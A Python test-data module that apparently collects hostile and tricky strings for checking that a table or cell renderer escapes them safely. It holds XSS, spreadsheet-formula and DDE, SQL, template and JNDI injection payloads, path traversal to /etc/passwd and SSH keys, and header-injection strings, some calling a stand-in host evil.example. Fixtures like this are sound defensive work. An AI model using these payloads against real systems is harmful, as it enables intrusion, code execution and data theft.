"""Texts as nobody would wish for in a cell: each is to be shown as text, lost nowhere, and obeyed by nothing."""

from collections.abc import Iterator

CALL = "alert(1)"
MARKUP = (
    *(f"<script>{CALL}</script>", f"<ScRiPt >{CALL}</sCrIpT>", f"<script src=data:text/javascript,{CALL}></script>"),
    *(f"<img src=x onerror={CALL}>", f"<img src=x onerror={CALL}//", f"<svg onload={CALL}>", f"<svg/onload={CALL}>"),
    *(f"<body onload={CALL}>", f"<iframe src=javascript:{CALL}>", f"<iframe srcdoc='<script>{CALL}</script>'>"),
    *(f"<a href=javascript:{CALL}>x</a>", f"<input autofocus onfocus={CALL}>", f"<details open ontoggle={CALL}>x"),
    *(f"<video><source onerror={CALL}>", f"<audio src=x onerror={CALL}>", f"<marquee onstart={CALL}>x</marquee>"),
    *(f"<object data=javascript:{CALL}>", f"<embed src=javascript:{CALL}>", f"<form action=javascript:{CALL}><button>"),
    *(
        f"<math><mi xlink:href=javascript:{CALL}>x",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=0>",
    ),
    *("<link rel=stylesheet href=//evil.example/x>", "<style>*{display:none}</style>", "<!--", "-->", "<!-- x -->"),
    *(
        "<![CDATA[x]]>",
        "<?xml version='1.0'?>",
        "<!DOCTYPE html>",
        "</td></tr></table>",
        "</body></html>",
        "<plaintext>",
    ),
    *(
        "<textarea>",
        "</textarea>",
        "</select>",
        "</title>",
        f"</title><script>{CALL}</script>",
        "<noscript>",
        "<template>",
    ),
    *("<b>bold</b>", "<h1>head</h1>", "&lt;script&gt;", "&amp;", "&#60;script&#62;", "&NewLine;", "&nbsp", "&#x202e;"),
    *(
        f"<scr<script>ipt>{CALL}</script>",
        f"<<script>{CALL}//<</script>",
        "<",
        ">",
        "&",
        "<x",
        "< script >",
        "<\u00adscript>",
    ),
)
BREAK_OUTS = (
    *(f'" onmouseover="{CALL}', f"' onmouseover='{CALL}", f'"><script>{CALL}</script>', f"'><script>{CALL}</script>"),
    *(
        f'" autofocus onfocus={CALL} x="',
        f"` onerror={CALL} `",
        'x" style="position:fixed;inset:0" y="',
        '\\"',
        '"',
        "'",
        "`",
    ),
    *(f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"data:text/html,<script>{CALL}</script>"),
    *(f"vbscript:{CALL}", "//evil.example/x", "https://evil.example/?a=1&b=2#c", "#", "?state=decided", "a&sort=risk"),
)
FORMULAS = (
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "=cmd|'/C calc'!A0",
        "-2+3+cmd|'/C calc'!A0",
    ),
    *(
        '=HYPERLINK("http://evil.example","x")',
        "=IMPORTXML(CONCAT(1),2)",
        "@A1",
        "+",
        "-",
        "=",
        "@",
        '="',
        ";=1+1",
        ",=1+1",
    ),
    *(
        '"=1+1"',
        "'=1+1",
        "''=1",
        "=1+1\n=2+2",
        "%0A=1+1",
        "\uff1d1+1",
        "=DDE(1;2;3)",
        "-0",
        "+49 30 1234",
        "1e308",
        "0x1f",
    ),
)
UNSEEN = (
    *(
        "pay\u202eelif",
        "\u202d",
        "a\u2066b\u2069c",
        "\u2067rtl",
        "\u200e",
        "\u200f",
        "\u061c",
        "a\u200bb",
        "a\u200cb",
        "a\u200db",
    ),
    *(
        "\ufeffmark",
        "a\u2060b",
        "a\u00adb",
        "a\u034fb",
        "\u3164",
        "\uffa0",
        "\u115f\u1160",
        "\u2800",
        "\u180e",
        "\u2028line",
    ),
    *(
        "\u2029paragraph",
        "a\u0085b",
        "\u00a0",
        "\u2003em",
        "\ufff9note\ufffa\ufffb",
        "\ufffc",
        "\ufffd",
        "\ufffe",
        "\uffff",
    ),
    *(
        "\U000e0041\U000e0042",
        "\U000f0000",
        "\ue000",
        "e" + "\u0301" * 40,
        "Z" + "\u0335" * 20 + "algo",
        "\u202e\u202d" * 20,
    ),
)
CONTROLS = (
    *(f"a{chr(code)}b" for code in (*range(1, 32), 127, 128, 144, 155, 159)),
    *(
        "\x00",
        "a\x00b",
        "a\x00",
        "\x00" * 20,
        "\x1b[2J",
        "\x1b]0;title\x07",
        "\x9b31m",
        "\x08" * 8,
        "a\r\nb",
        "\r",
        "\n",
        "\t",
    ),
)
TEMPLATES = (
    *(
        "{{ 7 * 7 }}",
        "{% raw %}",
        "{# x #}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{config}}",
        "{{''.__class__.__mro__}}",
    ),
    *(
        "%s",
        "%(x)s",
        "%n%n%n",
        "{0}",
        "{}",
        "{x!r}",
        "$HOME",
        "`id`",
        "$(id)",
        "${jndi:ldap://evil.example/a}",
        "[[x]]",
        ":param",
    ),
)
QUERIES = (
    *(
        "' OR '1'='1",
        "'; DROP TABLE review_alerts; --",
        '" OR ""="',
        "1; SELECT 1",
        "' UNION SELECT 1 --",
        "%",
        "_",
        "\\",
        "''",
    ),
    *(
        "NULL",
        "null",
        "None",
        "nan",
        "NaN",
        "inf",
        "-Infinity",
        "true",
        "undefined",
        "[object Object]",
        "0",
        "00123",
        "1e5",
    ),
)
PLACES = (
    *(
        "../../etc/passwd",
        "..\\..\\windows",
        "/etc/passwd",
        "file:///etc/passwd",
        "C:\\x",
        "\\\\host\\share",
        "~/.ssh/id",
        ".",
    ),
    *("..", "CON", "a/b", "a%2fb", "%00", "%2e%2e%2f", "x.csv\x00.exe", "?a=b", "a;b", "*", "a|b", "-rf", "--help"),
)
HEADERS = (
    *(
        "x\r\nSet-Cookie: a=1",
        "x\r\n\r\n<html>",
        "x\nLocation: //evil.example",
        "%0d%0aSet-Cookie:a=1",
        "\u560d\u560aSet-Cookie:a=1",
    ),
)
TERMINATORS = (
    *(
        "</script>",
        "</script ",
        "]]>",
        '"}',
        '"]}',
        "\\u003c/script\\u003e",
        "\\",
        "\\\\",
        "\\n",
        "\\x3c",
        '{"__proto__": 1}',
        "__proto__",
    ),
    *("constructor", "*/", "/*", "//", "';", '";', "\u2028;", "--", "\\u0000", "\\ud800"),
)
LETTERS = (
    *(
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\U0001f1e9\U0001f1ea",
        "\U0001f44d\U0001f3fd",
        "\u2764\ufe0f",
        "1\ufe0f\u20e3",
    ),
    *(
        "\U0001f3f4\U000e0067\U000e0062\U000e007f",
        "p\u0430ypal",
        "\u0440\u0430\u0443\u0440\u0430l",
        "\uff50\uff41\uff59",
        "\u1d5d\u1d43",
        "ﬁle",
    ),
    *(
        "\u05d0\u05d1\u05d2 123",
        "\u0639\u0631\u0628\u064a",
        "\u6f22\u5b57",
        "\u0e01\u0e33",
        "\u0939\u093f",
        "İstanbul",
        "ß",
        "ǅ",
        "\U0001d4d0",
    ),
)
LONG = (
    "x" * 10_000,
    "<b>" * 3_334,
    "\u202e" * 10_000,
    "=" + "1+" * 5_000,
    "a " * 5_000,
    "\U0001f600" * 10_000,
    '"' * 10_000,
)


def _all() -> Iterator[str]:
    for part in (MARKUP, BREAK_OUTS, FORMULAS, UNSEEN, CONTROLS, TEMPLATES, QUERIES, PLACES, HEADERS, TERMINATORS):
        yield from part
    yield from (*LETTERS, *LONG, " ", "  leading", "trailing  ", "a  b", "")


CORPUS = tuple(dict.fromkeys(_all()))
"""Each once; Arrow holds no lone surrogates, so that none is among them."""
